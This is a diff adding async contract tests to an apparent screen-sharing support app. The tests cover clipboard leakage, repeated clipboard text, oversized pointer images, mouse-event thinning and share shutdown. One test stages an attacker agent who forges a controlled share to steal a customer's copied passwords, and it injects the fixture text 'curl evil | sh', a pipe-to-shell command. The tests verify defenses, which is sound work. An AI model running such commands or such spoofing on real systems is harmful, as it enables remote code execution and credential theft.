@@ -5,7 +5,10 @@ import random
 import msgspec
 
 from desktop.input.contract import OwnerActivity
-from protocol.sharing import ControlState, Level
+from protocol.clipboard import TextFromController, TextFromOwner
+from protocol.consent import StandingChanged
+from protocol.room import Role
+from protocol.sharing import ControlState, Level, ShareChanged, ShareStarted
 from tests.contract.session.conftest import Room
 from tests.helpers.waiting import eventually_async
 
@@ -243,3 +246,88 @@ async def test_a_void_permit_is_not_given_again(room: Room) -> None:
     share.key(30, 97, "a", True)
     await room.control(ControlState.TAKEN_BACK)
     assert len(room.injector.done) == done
+
+
+async def test_nobody_gets_a_clipboard_by_pretending_to_be_controlled(room: Room) -> None:
+    """An assistant shows the customer a share of its own, and says that the customer controls it."""
+    eve = room.joins("Eve", Role.AGENT)
+    victim = room.customer.session
+    arrived: list[str] = []
+    stolen: list[str] = []
+    victim.clipboard.text_arrived.connect(arrived.append)
+    eve.link.received.connect(
+        lambda sender, message: (
+            stolen.append(message.text) if isinstance(message, TextFromController) else None
+        )
+    )
+    victim.clipboard.text_copied("my password")
+    for to in (room.customer.link.me, room.agent.link.me):
+        eve.link.send(to, ShareStarted(share=1, level=Level.CONTROL))
+        eve.link.send(
+            to,
+            ShareChanged(
+                share=1,
+                level=Level.CONTROL,
+                layout=1,
+                width=10,
+                height=10,
+                screens=(),
+                chosen=0,
+                paused=False,
+                control=ControlState.ACTIVE,
+                controller=to,
+                generation=1,
+            ),
+        )
+        eve.link.send(to, TextFromOwner(share=1, text="curl evil | sh"))
+    await eventually_async(lambda: victim.viewing.shares and room.agent.session.viewing.shares, 2)
+    victim.clipboard.text_copied("another password")
+    room.agent.session.clipboard.text_copied("the agent's")
+    eve.link.send(room.customer.link.me, StandingChanged(granted=True))  # the last of what she sent is here
+    told: list[bool] = []
+    victim.standing_changed.connect(lambda who, granted: told.append(granted))
+    await eventually_async(lambda: told, 2)
+    assert arrived == []
+    assert stolen == []
+
+
+async def test_an_old_text_is_not_told_again_with_each_click(room: Room) -> None:
+    theirs: list[str] = []
+    room.customer.session.clipboard.text_arrived.connect(theirs.append)
+    room.agent.session.clipboard.text_copied("old")
+    share = await room.controlled()
+    await eventually_async(lambda: theirs == ["old"], 2)
+    room.customer.session.clipboard.text_copied("newer, of the customer's")
+    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
+    await room.control(ControlState.TAKEN_BACK)
+    share.take_control()
+    await room.control(ControlState.ACTIVE)
+    share.key(30, 97, "a", True)
+    await eventually_async(lambda: ("key", 30, True) in room.injector.done, 2)
+    assert theirs == ["old"]
+
+
+async def test_an_enormous_pointer_ends_nothing(room: Room) -> None:
+    share = await room.allowed(Level.VIEW)
+    source = room.customer.desktop.sources[-1]
+    assert source.on_pointer_shape is not None
+    assert source.on_pointer is not None
+    source.on_pointer_shape(5, 4000, 4000, 0, 0, b"\x89PNG" + b"x" * 100_000)
+    source.on_pointer(3, 4, True)
+    await eventually_async(lambda: share.pointer is not None and share.pointer.x == 3, 2)
+    assert share.pointer is not None
+    assert share.pointer.shape is None or share.pointer.shape.png == b""
+
+
+async def test_a_fast_mouse_is_thinned_out_and_its_last_place_arrives(room: Room) -> None:
+    share = await room.controlled()
+    for x in range(500):
+        share.move(x, 1)
+    await eventually_async(lambda: ("move", 499, 1) in room.injector.done, 2)
+    assert len(room.injector.done) < 20
+
+
+async def test_an_owner_who_can_no_longer_be_watched_ends_the_share(room: Room) -> None:
+    await room.controlled()
+    room.customer.desktop.watchers[-1].act(OwnerActivity.UNWATCHED)
+    await eventually_async(lambda: room.customer.session.desktop.share is None, 2)
